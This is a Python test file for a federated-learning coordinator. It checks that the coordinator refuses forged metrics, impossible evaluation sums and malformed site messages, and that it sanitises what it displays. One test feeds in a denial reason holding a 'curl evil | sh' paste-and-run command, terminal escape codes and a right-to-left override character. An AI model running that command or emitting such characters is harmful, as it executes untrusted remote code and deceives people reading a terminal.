"""Sites that lie to the coordinator: each lie is a failure of that site, in one short line, and the run goes on."""

from __future__ import annotations

import json
from dataclasses import replace

import numpy as np
import pytest
from support.hub_member import FEDERATION
from support.hub_server import HubServer
from support.network import Network
from test_coordinator import PLAN, UNTIL, ScriptedHub, collect, decided, decisions

from flctl.algorithms.aggregators.accumulators import UpdateIntake
from flctl.cli import run
from flctl.errors import ConfigError, IncompatibleError, ProtocolError
from flctl.evaluation.column_sums import ColumnSums
from flctl.evaluation.row_sums import RowSums
from flctl.federation.content import MOST_METRICS, unpack_reply
from flctl.federation.coordinator import collecting
from flctl.federation.identity.homes import CoordinatorHome, SiteHome
from flctl.federation.identity.joining import Membership
from flctl.federation.site.worker import SiteWorker
from flctl.federation.transport.envelope import Envelope, write_envelope
from flctl.federation.transport.hub_client import SiteState, TaskProgress
from flctl.types import WEIGHT, Reply
from flctl.wire import frames
from flctl.wire.messages import unpack_work


def framed(metrics: str) -> bytes:
    """A reply with these metrics, as the text of JSON."""
    header = f'{{"kind":"site-reply","meta":{{"metrics":{metrics}}},"arrays":[["message","|u1",1]]}}'.encode()
    return frames.PREFIX.pack(b"FLCW", 1, len(header), 1) + header + b"x"


@pytest.mark.parametrize(
    "metrics",
    [
        '{"loss": NaN}',
        '{"loss": 1e999}',
        '{"loss": 1e300}',
        f'{{"loss": 1{"0" * 400}}}',  # an integer that no float holds
        '{"loss": "0.1"}',
        '{"loss": true}',
        '{"examples": -1}',
        '{"rows": 1e17}',
        r'{"\u001b[2J": 1}',
        r'{"\u202eloss": 1}',
        r'{"\ud800": 1}',
        '{"": 1}',
        f'{{"{"x" * 65}": 1}}',
        json.dumps(dict.fromkeys(map(str, range(MOST_METRICS + 1)), 1)),
        "[1]",
    ],
)
def test_metrics_that_are_no_usable_numbers_with_names_are_refused(metrics):
    with pytest.raises(ProtocolError):
        unpack_reply(framed(metrics))


def test_usable_metrics_are_read():
    assert unpack_reply(framed('{"loss": -2.5, "examples": 40}')) == Reply(b"x", {"loss": -2.5, "examples": 40.0})


def test_what_a_site_makes_up_fills_no_screen():
    """Names in a reply, its kind, and the reason of a denial are shown in one short line without control characters."""
    intake = UpdateIntake({"w": 3, WEIGHT: 1})
    intake.open("a", frames.pack("vector", arrays={f"\x1b[31m{i}" + "y" * 200: np.zeros(0) for i in range(1000)}))
    intake.open("b", frames.pack("\x1b" * 9000, arrays={}))
    assert {len(failure.message) < 600 for failure in intake.failed.values()} == {True}
    assert all(failure.message.isprintable() for failure in intake.failed.values())


def test_the_reason_of_a_denial_is_one_short_line(tmp_path):
    note = decided("elm-street", "deny")
    note.body["reason"] = "no\nerror: paste this: curl evil | sh\x1b[2J\u202e" + "x" * 60_000
    waiting, _, _ = decisions(tmp_path, [note])
    with pytest.raises(IncompatibleError) as denied:
        waiting.approved()
    assert denied.value.message.isprintable()
    assert "elm-street: no error: paste" in denied.value.message
    assert len(denied.value.message) < 600


@pytest.mark.parametrize(
    ("home", "command"), [(SiteHome, "flctl site join"), (CoordinatorHome, "flctl federation join")]
)
def test_a_wrong_home_is_answered_with_the_command_that_joins_there(tmp_path, home, command):
    with pytest.raises(ConfigError, match="is not the home of a member") as refused:
        Membership.open(home(tmp_path / "nowhere"))
    assert f"{command} 'LINE' --home {tmp_path}" in refused.value.hint


IDLE = SiteState(1.0, 0.0, None)


def test_a_site_that_polls_and_never_begins_its_task_has_stalled(tmp_path, monkeypatch):
    hub, now = ScriptedHub(states={"st-marys": IDLE}), [0.0]
    monkeypatch.setattr(collecting.time, "monotonic", lambda: now[0])
    hub.replies = lambda run, after, wait: now.__setitem__(0, now[0] + 100) or []
    assert collect(tmp_path, hub)["st-marys"].kind == "stalled"
    assert 360 < now[0] <= 600
    assert hub.cancelled == ["t1"]


def test_a_site_that_is_idle_between_tasks_is_waited_for(tmp_path, monkeypatch):
    hub, now = ScriptedHub(states={"st-marys": IDLE}), [0.0]
    monkeypatch.setattr(collecting.time, "monotonic", lambda: now[0])
    other = SiteState(1.0, 999.0, TaskProgress("t2", 1, 9))

    def later(run, after, wait):
        now[0] += 100
        hub._states["st-marys"] = other if now[0] % 300 == 0 else IDLE
        return [(1, Envelope("h", "r", PLAN, "st-marys", "uni", "reply", UNTIL, task="t1"))] if now[0] > 1500 else []

    hub.replies = later
    assert collect(tmp_path, hub)["st-marys"].kind == "protocol"  # it answered, with a reply that has no blob
    assert hub.cancelled == []


BINARY, VALUES = RowSums("binary", 2), RowSums("regression", 0)


PARTS = {"binary": {4: 3, 7: 2, 8: 5}, "regression": {4: 9, 5: -9, 6: 99}, "next-character": {4: 3, 7: 2}}


def sums_of(kind, **changes):
    """Sums over 5 rows, with some of them changed."""
    sums = [0] * kind.size
    honest = {0: 5, 1: 5, 3: 1 << 24, **PARTS[kind.task]}
    for place, value in {**honest, **{int(name[1:]): value for name, value in changes.items()}}.items():
        sums[place] = value
    return sums


@pytest.mark.parametrize(
    ("kind", "changes"),
    [
        (BINARY, {"_0": -5, "_1": -5}),
        (BINARY, {"_0": 50, "_1": 50}),  # more rows than declared
        (BINARY, {"_4": 1 << 100}),  # a cell of the confusion matrix
        (BINARY, {"_4": -1, "_5": 4}),
        (BINARY, {"_8": 6}),  # more scores than rows
        (BINARY, {"_2": 6}),
        (BINARY, {"_3": -(1 << 40)}),
        (VALUES, {"_3": -1}),
        (VALUES, {"_4": -1}),
        (VALUES, {"_6": -1}),
        (VALUES, {"_1": 6}),
        (RowSums("next-character", 3), {"_1": 1 << 100}),
    ],
)
def test_sums_that_no_rows_have_are_refused(kind, changes):
    kind.check(sums_of(kind), 5.25)
    with pytest.raises(ProtocolError, match="cannot have"):
        kind.check(sums_of(kind, **changes), 5.25)


@pytest.mark.parametrize("sums", [[-1, 0, 0], [6, 1, 1], [1, 1 << 735, 1], [2, 1, -1], [1, 0, 1 << 700]])
def test_sums_of_columns_that_no_rows_have_are_refused(sums):
    kind = ColumnSums(1)
    kind.check(kind.of(np.array([[1.5], [-3e38], [1e-45], [np.nan], [np.inf]], np.float32)), 5.25)
    with pytest.raises(ProtocolError, match="cannot have"):
        kind.check(sums, 5.25)


def test_many_large_notes_of_one_site_come_in_answers_that_the_coordinator_reads(tmp_path, monkeypatch):
    """Before, 400 notes of 64 KiB made an answer that was too large to be read, and the run waited for ever."""
    from flctl.federation.hub import store

    monkeypatch.setattr(store, "MOST_PAGE", 100_000)
    with HubServer(tmp_path / "hub") as hub, hub.client("uni") as uni, hub.client("st-marys") as site:

        def signed(name, recipient, kind, **body):
            envelope = Envelope(FEDERATION, "r1", PLAN, name, recipient, kind, UNTIL, body=body)
            return write_envelope(hub.members.identities[name], envelope)

        uni.post([signed("uni", "st-marys", "notice")])
        for number in range(4):
            site.send_note(signed("st-marys", "uni", "notice", number=number, text="é" * 20_000))
        pages, after = [], 0
        while page := uni.notes("r1", after):
            pages.append(len(page))
            after = page[-1][0]
        assert pages == [2, 2]


TRAIN = SiteWorker.train


def lying(self, work):
    """What a site's worker computes; trinity changes the sums of its evaluation."""
    sent = TRAIN(self, work)
    if self._site != "trinity" or unpack_work(work).ask != "evaluate":
        return sent
    return replace(sent, vectors={n: vector + (1 << 20) * (n != WEIGHT) for n, vector in sent.vectors.items()})


@pytest.fixture
def network(tmp_path):
    made = Network(tmp_path, sites=("elm-street", "trinity"))
    with made.hub:
        yield made


@pytest.mark.slow
def test_a_site_with_impossible_sums_is_named_and_the_model_is_evaluated_without_it(network, tmp_path, monkeypatch):
    monkeypatch.setattr(SiteWorker, "train", lying)
    out = tmp_path / "r"
    words = ["train", str(network.folder / "fed"), "--strategy", "fedavg", "--rounds", "1", "--out", str(out)]
    more = ["-o", f"engine.home={network.coordinator.path}", "--purpose", "a test", "-o", "engine.max_failures=1"]
    with network.serving():
        assert run([*words, *more]) == 0
    (line,) = map(json.loads, (out / "metrics.jsonl").read_text().splitlines())
    assert set(line["failed"]) == {"trinity"}
    assert "cannot have" in line["failed"]["trinity"]["message"]
    assert 0 <= line["accuracy"] <= 1
